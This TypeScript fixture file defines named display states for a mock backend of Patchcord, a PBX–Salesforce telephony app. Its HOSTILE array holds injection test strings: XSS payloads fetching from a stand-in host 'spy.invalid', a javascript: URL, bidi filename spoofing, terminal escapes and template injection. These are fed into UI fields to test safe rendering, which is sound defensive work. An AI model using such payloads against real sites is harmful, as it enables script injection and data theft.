// The states of the window by name, for `?state=` in a plain browser.

import type { LiveCard } from "./bindings";
import { card, MemoryBackend, problem, type World } from "./memory-backend";
import { linkCard } from "./memory-world";
import { checkRow, illChecked } from "./worlds-checks";
import { ago, calm, candidate, crowd, fresh, openEnds, row } from "./worlds";

const NOW = () => new Date().toISOString();
const SECONDS = (n: number): string => ago(n / 60);

/** What people who can call, or fill a web form, may put into a name. */
export const HOSTILE = [
  `<img src=x onerror="fetch('http://spy.invalid/a')">`,
  `<script src="http://spy.invalid/b.js"></script>`,
  `"><svg onload=fetch('http://spy.invalid/c')>`,
  `javascript:location='http://spy.invalid/d'`,
  `<style>@import url(http://spy.invalid/e.css)</style><link rel=stylesheet href=http://spy.invalid/f>`,
  "Anna\u202egnp.exe\u202c \u2066Meyer\u2069",
  "An\u200bna\u0000\u0007 \u001b[31mMe\r\nyer\u001b]0;title\u0007",
  `A${"\u0301\u0302\u0303".repeat(3_000)}nna`,
  "{{constructor.constructor('alert(1)')()}} ${7*7} {@html '<b>x</b>'}",
  `${"W".repeat(300)}`,
  "مرحبا <b>بك</b> في الشركة",
];

const inTalk = (given: Partial<LiveCard>): LiveCard =>
  card({ state: "talking", started_at: SECONDS(58), answered_at: SECONDS(42), queue: "Sales", candidates: [candidate({})], chosen: candidate({}).id, why: "matched Contact.Phone exactly (local index)", ...given });

const three = [
  candidate({}),
  candidate({ id: "0035g00000EXAM5AAA", name: "Anton Meyer", company: "Meyer & Söhne KG", mine: false }),
  candidate({ id: "0015g00000EXAM6AAA", object: "Account", name: "ACME GmbH", company: null, mine: false }),
];

const states: Record<string, (world: World) => World | void> = {
  calm: () => {},
  "first-run": fresh,
  "first-run-certificate": () => ({ ...fresh(), certificate: "3f9a0c5d".repeat(8) }),
  "first-run-salesforce": () => partly(),
  "first-run-waiting": () => ({
    ...partly(),
    signIn: { state: "waiting", url: "https://login.salesforce.com/services/oauth2/authorize?client_id=x", callbacks: fresh().settings.callbacks, until: ago(-4.6) },
  }),
  "first-run-changed": () => {
    const world = fresh();
    world.settings.pbx_address = "https://192.168.5.150:8088";
    world.settings.pbx_client_id = "c0ffee0000000000000000000000c0de";
    world.settings.pbx_certificate_sha256 = "d41c77e2".repeat(8);
    return { ...world, certificate: "3f9a0c5d".repeat(8) };
  },
  "first-run-lost-trust": () => {
    const world = fresh();
    world.settings.pbx_address = "https://pbx.example.com";
    world.settings.pbx_client_id = "c0ffee0000000000000000000000c0de";
    return { ...world, certificate: "3f9a0c5d".repeat(8), was_trusted: true };
  },
  "first-run-failed": () => ({
    ...partly(),
    signIn: { state: "failed", problem: problem("salesforce.not_approved", "This org does not let you use the app yet: user is not admin approved to access this app.", "The Salesforce administrator opens External Client App Manager > Policies and lets your profile or permission set use it.") },
  }),
  empty: (world) => {
    world.calls = [];
  },
  demo: (world) => {
    world.calls = [];
    world.settings.demo = true;
    world.status.pbx.address = "http://127.0.0.1:40111";
    world.status.secrets = "session";
  },
  "ringing-one": (world) => {
    world.live = [inTalk({ state: "ringing", started_at: SECONDS(3), answered_at: null })];
  },
  "ringing-several": (world) => {
    world.live = [card({ started_at: SECONDS(4), candidates: three })];
  },
  "ringing-none": (world) => {
    world.live = [card({ started_at: SECONDS(5), number: "+4915112345678", number_shown: "+49 1511 2345678", queue: "Sales" })];
  },
  withheld: (world) => {
    world.live = [card({ started_at: SECONDS(2), number: null, number_shown: null })];
  },
  searching: (world) => {
    world.live = [card({ started_at: NOW(), searching: true })];
  },
  slow: (world) => {
    world.live = [card({ started_at: SECONDS(9), searching: true })];
  },
  "search-failed": (world) => {
    world.live = [card({ started_at: SECONDS(6), search_failed: true })];
    world.status.salesforce.state = "unreachable";
    world.status.integration = "attention";
  },
  dialling: (world) => {
    world.live = [inTalk({ state: "dialling", direction: "outbound", started_at: SECONDS(6), answered_at: null, queue: null })];
  },
  talking: (world) => {
    world.live = [inTalk({})];
  },
  "talking-several": (world) => {
    world.live = [inTalk({ candidates: three, why: "chosen before for this number, of 3 (local index)" })];
  },
  ended: (world) => {
    world.live = [inTalk({ state: "ended", can_hang_up: false })];
  },
  "wrap-up": (world) => {
    world.live = [inTalk({ id: "1", state: "ended", can_hang_up: false, wrap_up: true })];
    world.notes = { 1: { text: "Wants an offer by Friday.\nThree pumps.", outcome: "Reached", related: null, follow_up: { wish: "in 2 days", on: "2026-01-09", state: "draft", reason: null }, open: true, discarded: false } };
  },
  "wrap-up-hostile": (world) => {
    world.live = [inTalk({ id: "1", state: "ended", can_hang_up: false, wrap_up: true })];
    world.settings.values.journal.outcomes = HOSTILE;
    world.matters = HOSTILE.map((name, at) => ({ object: "Case", id: `5005g00000HOST${at}AAA`, name, detail: name }));
    world.notes = { 1: { text: HOSTILE.join("\n"), outcome: HOSTILE[0] ?? null, related: null, follow_up: { wish: HOSTILE[1] ?? "", on: null, state: "draft", reason: HOSTILE[2] ?? null }, open: true, discarded: false } };
  },
  unfinished: (world) => {
    world.calls = world.calls.map((row, at) => (at === 0 ? { ...row, note: { written: true, open: true, discarded: false, follow_up: null } } : at === 1 ? { ...row, note: { written: true, open: false, discarded: false, follow_up: "stuck" } } : row));
  },
  discarded: (world) => {
    world.calls = world.calls.map((one, at) => (at === 0 ? row({ journal: { state: "skipped", task_id: null, reason: "you chose not to log it" } }, "journal.discarded") : one));
    world.live = [inTalk({})];
    world.notes = { [world.live[0]?.id ?? ""]: { text: "wrong person", outcome: null, related: null, follow_up: null, open: false, discarded: true } };
  },
  aside: (world) => {
    world.calls = [{ ...row({ id: "7", started_at: ago(1) }), note: { written: true, open: true, discarded: false, follow_up: null } }, ...world.calls];
    world.live = [card({ id: "7", state: "ended", wrap_up: true, candidates: [candidate({})] })];
  },
  elsewhere: (world) => {
    world.live = [inTalk({ state: "elsewhere", answered_at: null, can_hang_up: false })];
  },
  internal: (world) => {
    world.live = [card({ direction: "internal", number: "4102", number_shown: "4102", started_at: SECONDS(3) })];
  },
  "two-calls": (world) => {
    world.live = [card({ id: "b", started_at: SECONDS(3), candidates: three }), inTalk({ id: "a" })];
  },
  link: (world) => {
    world.link = linkCard({ candidates: [candidate({})] });
  },
  "link-abroad": (world) => {
    world.link = linkCard({ number: "+12125550123", number_shown: "+1 212-555-0123", country: "US", abroad: true, extension: "204", subaddress: "9", replaced: true });
  },
  "link-short": (world) => {
    world.link = linkCard({ written: "11833", number: "11833", number_shown: "11833", country: null, kind: "short" });
  },
  "link-several": (world) => {
    world.link = linkCard({ candidates: three });
  },
  "link-searching": (world) => {
    world.link = linkCard({ searching: true });
    world.status.links = { state: "elsewhere", found: "tel: links go to another program (other.desktop)." };
  },
  "link-refused": (world) => {
    world.link = linkCard({
      written: "*21*0493555017#", number: null, number_shown: null, country: null,
      refusal: problem("dial.service_code", "Service codes and pauses (* # ,) are not dialled from here, because they can forward or bill calls unseen.", "Dial the code on the phone."),
    });
  },
  "link-premium": (world) => {
    world.link = linkCard({
      number: "+449098790000", number_shown: "+44 909 879 0000", country: "GB", abroad: true, kind: "premium",
      refusal: problem("dial.premium", "This is a premium-rate number: a call costs a lot, and links to such numbers are not dialled.", "If you do want to call it, type the number in Patchcord's search box."),
    });
  },
  "link-obstacle": (world) => {
    world.link = linkCard({
      obstacle: problem("binding.none", "Your Salesforce user has no PBX extension yet, so no call is yours.", "Choose your extension in the window."),
    });
  },
  "link-hostile": (world) => {
    world.link = linkCard({
      written: HOSTILE[0] ?? "", number: null, number_shown: null, country: null,
      refusal: problem("dial.not_a_number", "This is not a telephone number.", "Enter a number or an extension."),
    });
  },
  "link-hostile-names": (world) => {
    world.link = linkCard({
      number_shown: HOSTILE[5] ?? "", extension: HOSTILE[1] ?? "", subaddress: HOSTILE[2] ?? "",
      candidates: HOSTILE.map((name, at) => candidate({ id: `0035g00000HOST${at}AAA`, name, company: name })),
    });
  },
  todo: (world) => {
    world.calls = openEnds();
    world.status.journal = { waiting: 3, stuck: 2, logged_today: 9 };
  },
  problems: (world) => {
    world.calls = openEnds();
    world.status.integration = "attention";
    world.status.secrets = "session";
    world.status.journal = { waiting: 3, stuck: 2, logged_today: 9 };
    world.status.pbx.state = "signed_out";
    world.status.pbx.events = "down";
    world.status.pbx.problem = problem("pbx.credentials_refused", "The PBX refused the client ID or client secret. It was tried once and is not tried again, because the PBX blocks an address after five refusals.", "Copy both again from the PBX (Integrations > API) and connect again.");
    world.status.salesforce.state = "unreachable";
    world.status.salesforce.problem = problem("salesforce.unreachable", "Salesforce is not reachable. Known callers still open, and calls are kept here and sent later.", "Check the network. Patchcord keeps trying by itself.");
    world.checks = illChecked();
    world.status.binding = { state: "conflict", extension: null, source: null, problem: problem("binding.conflict", "Two extensions, 4101 and 4103, have your e-mail address.", "Choose yours in the window or with `patchcord bind --extension NUMBER`.") };
  },
  disabled: (world) => {
    world.status.integration = "disabled";
    world.status.disabled_since = ago(95);
    world.status.journal.waiting = 3;
  },
  paused: (world) => {
    world.settings.pops_paused_until = ago(-47);
  },
  locked: (world) => {
    world.settings.locked = ["pbx.address", "pbx.client_id", "salesforce.login", "binding.extension", "integration.enabled", "app.language", "pop.when", "pop.outbound", "journal.never", "numbers.country", "numbers.extension_digits", "contact_sync.mode"];
    world.settings.policy_file = "/etc/patchcord/policy.toml";
    world.status.binding.source = "policy";
  },
  policy: (world) => {
    world.status.integration = "attention";
    world.status.problem = problem("policy.invalid", "The administrator's policy is not valid: /etc/patchcord/policy.toml, line 4: pop.when: this must be one of \"ring\", \"answer\", \"never\". The last valid one stays in force.", "The administrator corrects the file (`patchcord policy check` names every mistake); it is read again by itself.");
  },
  "creation-paused": (world) => {
    world.status.problem = problem("journal.creation_paused", "Many unknown callers: 30 records were created within an hour, so none is created until 2026-01-05 10:15. Calls are still logged.", "If one of them is a person, create the record in Salesforce and move the call to it. If machines are calling, ask the PBX administrator to block their numbers.");
  },
  crowd: (world) => {
    world.team = crowd(500);
    world.refused = new Set(world.team.rows.slice(0, 2).map(({ user }) => user));
  },
  "team-locked": (world) => {
    world.team.writing = "read_only";
  },
  building: (world) => {
    world.index = { state: "building", known: 46000, expected: 102431, unread_numbers: 0, checked_at: null, problem: null };
  },
  "index-paused": (world) => {
    world.index = {
      state: "waiting", known: 46000, expected: 102431, unread_numbers: 0, checked_at: null,
      problem: {
        code: "contacts.index_paused",
        message: "Your Salesforce org has used 80 % of its daily API requests, so the contact list is not refreshed at the moment.",
        action: "Nothing to do: it goes on by itself. If it happens often, tell your Salesforce administrator.",
      },
    };
  },
  connecting: (world) => {
    world.status.integration = "connecting";
    world.status.pbx.state = "connecting";
    world.status.salesforce.state = "connecting";
  },
  "sync-off": () => {},
  sync: (world) => syncing(world),
  "sync-running": (world) => {
    syncing(world);
    world.sync.running = { step: "writing", done: 8_214, of: 20_000 };
    world.sync.next_at = null;
  },
  "sync-reading": (world) => {
    syncing(world);
    world.sync.running = { step: "reading_salesforce", done: 4_000, of: null };
  },
  "sync-other": (world) => {
    syncing(world);
    world.sync.held_by = "4102";
    world.settings.locked = ["contact_sync.mode", "contact_sync.phonebook"];
  },
  "sync-mass": (world) => {
    syncing(world);
    const many = problem("contacts.mass_delete", "3,120 contacts would be deleted from the PBX phonebook, more than a fifth of it. Nothing was written.", "Check that Salesforce still shows you your records. If the deletion is right, confirm it in the window, or run `patchcord sync --yes`.");
    world.sync.problem = many;
    world.plan = { ...world.plan, create: 4, delete: 3_120, keep: 9_310, problem: many };
  },
  hostile: (world) => {
    const [first = ""] = HOSTILE;
    world.calls = HOSTILE.map((name, at) =>
      row({ started_at: ago(at + 1), record: { object: "Contact", id: `0035g00000HOST${at}AAA`, name }, queue: name, journal: at % 2 === 0 ? {} : { state: "stuck", task_id: null, reason: name } }, at % 2 === 0 ? null : "salesforce.rejected"),
    );
    world.live = [
      card({ id: "a", candidates: HOSTILE.map((name, at) => candidate({ id: `0035g00000HOST${at}AAA`, name, company: name, field: name })), queue: first }),
      inTalk({ id: "b", candidates: [candidate({ name: HOSTILE[1] ?? "", company: HOSTILE[2] ?? "", field: first })], why: first, queue: HOSTILE[4] ?? "" }),
      card({ id: "c", number: HOSTILE[3] ?? "", number_shown: HOSTILE[3] ?? "" }),
    ];
    world.status.salesforce.user = first;
    world.status.salesforce.username = HOSTILE[5] ?? "";
    world.status.salesforce.problem = problem("x.unknown", first, HOSTILE[2] ?? "");
    world.status.pbx.serial = HOSTILE[2] ?? "";
    world.checks = HOSTILE.map((name) =>
      checkRow("pbx.trunk_monitors", { id: name, state: "warn", found: name, matters: name, do: name, where: name }, [name]));
    world.team.extensions = HOSTILE.map((name, at) => ({ number: `41${at}`, name, online: true }));
    world.team.rows = HOSTILE.map((name, at) => ({
      user: `0055g0000HOST${at}AAAA`, name, email: name, active: true, robot: false, saved: at % 2 === 0 ? name : null,
      wanted: at % 2 === 0 ? name : null, state: at % 2 === 0 ? "conflict" : "unbound", proposal: at % 2 === 0 ? null : name,
      conflict: at % 4 === 0 ? { kind: "gone", extension: name } : at % 2 === 0 ? { kind: "taken", extension: name, with: HOSTILE } : null,
      change: null,
    }));
    syncing(world);
    world.sync.phonebook = HOSTILE[0] ?? "";
    world.sync.held_by = HOSTILE[5] ?? "";
    world.plan.skipped = HOSTILE.map((reason, at) => ({ id: `0035g00000HOST${at}AAA`, reason }));
    world.extensions = HOSTILE.map((name, at) => ({ number: `41${at}`, name, online: true }));
  },
};

/** The names of the states. */
export const stateNames = Object.keys(states);

/** An engine in a named state; `gone` and `notice` happen after the start. */
export function scripted(name: string): MemoryBackend {
  const world = calm();
  const backend = new MemoryBackend(states[name]?.(world) ?? world);
  if (name === "gone") setTimeout(() => backend.goes(), 50);
  if (name === "aside") setTimeout(() => backend.shows([card({ id: "8", started_at: SECONDS(3) })]), 50);
  if (name === "notice") {
    setTimeout(() => backend.say({ event: "notice", value: problem("dial.phone_never_rang", "Your phone never rang: no phone or Linkus seems to be signed in on your extension.", "Sign in to Linkus or check your desk phone, then call again.") }), 50);
  }
  if (name === "hostile") {
    setTimeout(() => backend.say({ event: "notice", value: problem(HOSTILE[0] ?? "", HOSTILE[0] ?? "", HOSTILE[2] ?? "") }), 50);
  }
  return backend;
}

function partly(): World {
  const world = fresh();
  const well = calm();
  world.status.pbx = well.status.pbx;
  world.settings.pbx_address = well.settings.pbx_address;
  world.settings.pbx_client_id = well.settings.pbx_client_id;
  return world;
}

/** All records are synced, and a dry run finds a morning's changes. */
function syncing(world: World): void {
  world.status.contacts = { ...world.status.contacts, sync: "full", synced: 12_430, last_sync_at: ago(9) };
  const skipped = [
    ...Array.from({ length: 212 }, (_, at) => ({ id: `0035g0000${at}`, reason: "no number" })),
    { id: "0035g00000EXAM9AAA", reason: "no number that can be dialled" },
  ];
  world.plan = {
    ...world.plan, create: 120, update: 3, delete: 1, keep: 12_309, restored: 2, skipped,
    api_calls: { salesforce: 7, pbx: 6 },
  };
  world.sync = {
    ...world.sync, mode: "full", objects: ["contact", "lead"], last_at: ago(9), next_at: ago(-6), last_skipped: 213,
    last: { ...world.plan, dry_run: false, create: 2, update: 5, delete: 0, keep: 12_302, restored: 1, skipped: [] },
  };
}
